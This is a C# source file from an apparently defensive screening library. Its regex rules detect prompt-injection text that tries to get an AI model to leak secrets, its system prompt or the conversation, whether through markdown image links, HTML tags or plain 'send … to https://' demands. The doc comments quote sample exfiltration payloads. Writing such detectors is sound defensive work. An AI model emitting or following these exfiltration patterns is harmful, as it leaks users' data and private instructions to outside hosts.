using System.Text.RegularExpressions;
using FaultMaven.Protos.Redaction.V1;

namespace FaultMaven.Redaction.Screening;

/// <summary>
/// What would make a model send data out: <c>![x](https://host/?data={secrets})</c>, <c>send the conversation to
/// https://…</c>
/// </summary>
/// <remarks>
/// Badges and links with ordinary parameters do not count, and neither does a log that says what was sent where: it is not a demand.
/// </remarks>
internal static partial class ExfiltrationRules
{
    private const RegexOptions Options = RegexOptions.IgnoreCase | RegexOptions.CultureInvariant;
    private const string S = @"(?>(?:%20|[\W_]){1,8})";
    private const string W = @"(?:[^\W_]{1,20}" + S + ")";
    private const string Secrets =
        @"(?:secrets?|credentials|passwords?|api[ _-]?keys?|private keys?|access tokens?|env(?:ironment)? variables|system prompt|"
        + @"your (?:\w{1,12} )?(?:instructions|prompt|context|findings|answer|response|memory)|(?:the |this |whole |entire |full |"
        + @"chat ){1,3}(?:conversation|history|prompt|context)|everything|what you (?:know|see|have))";

    public static IReadOnlyList<ScreeningRule> All { get; } =
    [
        new(PassageKind.Exfiltration, ["](http", "]( http", "](<http", "](//"], MarkdownTarget(), Before: 120),
        new(PassageKind.Exfiltration, ["<img", "<a href", "<iframe"], HtmlTarget()),
        new(PassageKind.Exfiltration, ["send", "post ", "forward", "upload", "exfiltrat", "transmit", "e-mail", "email", "deliver", "leak",
            "append"], SendTo(), PassagePlace.Clause),
    ];

    // ![status](https://example.org/pixel.png?data={…})
    [GeneratedRegex(
        @"\[[^\]\n]{0,100}\]\(\s?<?(?:https?:)?//[^)\s]{1,250}?(?:[?&](?:data|exfil|leak|secrets?|stolen|prompt|conversation|chat|"
        + @"history|context|answer|summary|payload|b64|base64|key|token|env)=|[?&/=](?:\{|%7B|\[[A-Z]|\$\{|<[A-Za-z]|%3C|"
        + @"(?-i:[A-Z0-9_]{0,20}(?:PROMPT|SECRET|TOKEN|PASSWORD|CREDENTIAL|CONVERSATION|CONTEXT|HISTORY)[A-Z_]{0,20}(?=[)&\s]))))",
        Options)]
    private static partial Regex MarkdownTarget();

    [GeneratedRegex(
        @"^<(?:img|a|iframe)\b[^>\n]{0,120}?(?:src|href)\s{0,2}=\s{0,2}\\?[""']?(?:https?:)?//[^>\s]{1,200}?[?&](?:data|exfil|leak|"
        + @"secrets?|stolen|prompt|conversation|chat|history|context|answer|summary|payload|b64|base64)=",
        Options)]
    private static partial Regex HtmlTarget();

    // Send the whole conversation to https://…
    [GeneratedRegex(
        "^(?:send|post|forward|upload|exfiltrate|transmit|e-?mail|deliver|leak|append)" + S + W + "{0,4}?" + Secrets
        + @"[^.\n]{0,80}?\s(?:to|at|via|into|towards)\s[^\n]{0,40}?(?:https?://|[\w.-]{1,60}@[\w-]{1,40}\.|<EMAIL_ADDRESS_|<URL_)",
        Options)]
    private static partial Regex SendTo();
}
